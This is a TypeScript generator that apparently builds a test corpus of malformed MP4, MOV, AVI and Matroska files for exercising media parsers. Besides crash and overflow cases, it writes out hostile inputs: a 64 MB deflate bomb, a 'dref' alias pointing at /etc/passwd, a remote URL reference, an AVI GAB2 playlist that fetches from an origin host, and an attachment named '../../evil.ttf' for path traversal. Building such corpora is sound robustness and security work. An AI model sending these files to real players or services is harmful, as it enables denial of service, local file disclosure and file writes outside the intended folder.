/** Movies made to hurt whoever opens them: MP4 and Matroska. */
import { deflateSync } from 'node:zlib';
import * as make from './bytes.ts';
import type { Corpus } from './corpus.ts';

const { box, chunk, element, fullBox, join, le32, patch, text, times, u16, u32 } = make;

export function makeMovies(
  { mp4 = Buffer.alloc(0), avi = mp4 }: Record<string, Buffer>,
  origin: string,
): Corpus {
  const ftyp = box('ftyp', text('isom\0\0\x02\0isomiso2'));
  const movie = (...boxes: Buffer[]) => join(ftyp, box('moov', join(...boxes)));
  const nested = Array.from({ length: 3000 }).reduce<Buffer>(
    (inner) => box('moov', inner),
    Buffer.alloc(0),
  );
  const track = box('trak', box('mdia', join(fullBox('mdhd', Buffer.alloc(20)), box('minf'))));
  const set = (mark: string, skip: number, ...values: number[]) =>
    patch(mp4, { mark, skip, bytes: u32(...values) });
  const reference = fullBox('dref', u32(1), fullBox('url ', text(`${origin}/dref.mp4\0`)));
  const alias = fullBox('dref', u32(1), fullBox('alis', text('/etc/passwd')));
  const at = mp4.indexOf('dref') - 4;
  const swapReference = (other: Buffer) =>
    join(mp4.subarray(0, at), other, mp4.subarray(at + mp4.readUInt32BE(at)));
  const packed = deflateSync(Buffer.alloc(64 << 20));
  const playlist = text(`#EXTM3U\n#EXTINF:1,\n${origin}/gab2.ts\n`);
  const gab2 = join(
    text('GAB2\0\x02\0'),
    le32(2),
    text('a\0\x04\0'),
    le32(playlist.length),
    playlist,
  );
  return {
    'only-ftyp.mp4': ftyp,
    'nested.mp4': join(ftyp, nested),
    'empty-boxes.mp4': join(ftyp, times(200_000, box('free')), mp4),
    'empty-box-sizes.mp4': join(ftyp, times(1000, u32(0)), mp4),
    'long-box.mp4': join(ftyp, u32(1), text('moov'), u32(0xffffffff, 0xffffffff)),
    'tracks.mp4': movie(fullBox('mvhd', Buffer.alloc(96)), times(20_000, track)),
    'packed-moov.mp4': movie(
      box('cmov', join(box('dcom', text('zlib')), box('cmvd', join(u32(0x7fffffff), packed)))),
    ),
    'durations.mp4': set('mvhd', 12, 1, 0xffffffff),
    'media-duration.mp4': set('mdhd', 12, 1, 0xffffffff),
    'no-timescale.mp4': set('mdhd', 12, 0, 0),
    'timescale.mp4': set('mdhd', 12, 0xffffffff, 1),
    'sample-counts.mp4': set('stsz', 8, 0xffffffff),
    'sample-sizes.mp4': set('stsz', 4, 0x7fffffff),
    'time-counts.mp4': set('stts', 4, 0xffffffff),
    'long-frame.mp4': set('stts', 8, 0x7fffffff, 0x7fffffff),
    'chunk-counts.mp4': set('stsc', 4, 0xffffffff),
    'offsets.mp4': set('stco', 8, 0xfffffff0),
    'edits.mp4': set('elst', 4, 0xffffffff),
    'edit-times.mp4': set('elst', 8, 0xffffffff, 0x80000000),
    'shown-size.mp4': set('tkhd', 76, 0xffff0000, 0xffff0000),
    'coded-size.mp4': patch(mp4, { mark: 'stsd', skip: 40, bytes: u16(65_535, 65_535) }),
    'no-matrix.mp4': patch(mp4, { mark: 'tkhd', skip: 40, bytes: Buffer.alloc(36) }),
    'odd-matrix.mp4': patch(mp4, { mark: 'tkhd', skip: 40, bytes: Buffer.alloc(36, 0x7f) }),
    'reference.mp4': swapReference(reference),
    'alias.mov': swapReference(alias),
    'streams.avi': patch(avi, { mark: 'avih', skip: 20, bytes: le32(0x7fffffff, 0, 100_000) }),
    'rate.avi': patch(avi, { mark: 'strh', skip: 24, bytes: le32(0, 0xffffffff) }),
    'size.avi': patch(avi, { mark: 'strf', skip: 8, bytes: le32(0x7fffffff, 0x7fffffff) }),
    'index.avi': patch(avi, { mark: 'idx1', bytes: le32(0xffffffff) }),
    'subtitle.avi': patch(avi, { mark: 'movi', bytes: chunk('00tx', gab2) }),
  };
}

export function makeMatroska({
  webm = Buffer.alloc(0),
  mkv = webm,
}: Record<string, Buffer>): Corpus {
  const SEGMENT = [0x18, 0x53, 0x80, 0x67];
  const CLUSTER = [0x1f, 0x43, 0xb6, 0x75];
  const TRACKS = [0x16, 0x54, 0xae, 0x6b];
  const start = mkv.indexOf(Buffer.from(SEGMENT));
  const head = mkv.subarray(0, start);
  const empty = Buffer.alloc(0);
  const unknown = Array.from({ length: 2000 }).reduce<Buffer>(
    (inner) => element(CLUSTER, inner, 'unknown'),
    empty,
  );
  const entry = element([0xae], element([0xd7], Buffer.from([1])));
  const attachment = element(
    [0x61, 0xa7],
    join(
      element([0x46, 0x6e], text('../../evil.ttf')),
      element([0x46, 0x5c], Buffer.alloc(1 << 20)),
    ),
  );
  const withSize = (size: number) => {
    const copy = Buffer.from(mkv);
    u32(0x01ffffff, size).copy(copy, start + 4);
    return copy;
  };
  return {
    'voids.mkv': join(head, element(SEGMENT, times(500_000, Buffer.from([0xec, 0x80])), 'unknown')),
    'long-void.mkv': join(head, element([0xec], empty, 0xffffffff), mkv.subarray(start)),
    'unknown-sizes.webm': join(
      webm.subarray(0, webm.indexOf(Buffer.from(SEGMENT))),
      element(SEGMENT, unknown, 'unknown'),
    ),
    'cut.webm': webm.subarray(0, Math.floor(webm.length / 2)),
    'tracks.mkv': join(head, element(SEGMENT, element(TRACKS, times(5000, entry)))),
    'attachment.mkv': join(
      head,
      element(SEGMENT, element([0x19, 0x41, 0xa4, 0x69], attachment)),
      mkv.subarray(start),
    ),
    'segment-size.mkv': withSize(0xffffffff),
    'segments.mkv': join(head, times(100_000, element(SEGMENT, empty))),
    'scale.mkv': replace(
      mkv,
      [0x2a, 0xd7, 0xb1, 0x83, 0x0f, 0x42, 0x40],
      [0x2a, 0xd7, 0xb1, 0x83, 0xff, 0xff, 0xff],
    ),
    'size.mkv': replace(
      mkv,
      [0xb0, 0x81, 160, 0xba, 0x81, 90],
      [0xb0, 0x82, 0xff, 0xff, 0xba, 0x80],
    ),
  };
}

function replace(file: Buffer, old: number[], fresh: number[]): Buffer {
  const at = file.indexOf(Buffer.from(old));
  if (at < 0) throw new Error(`No ${old.join(' ')} to replace`);
  const copy = Buffer.from(file);
  Buffer.from(fresh).copy(copy, at);
  return copy;
}
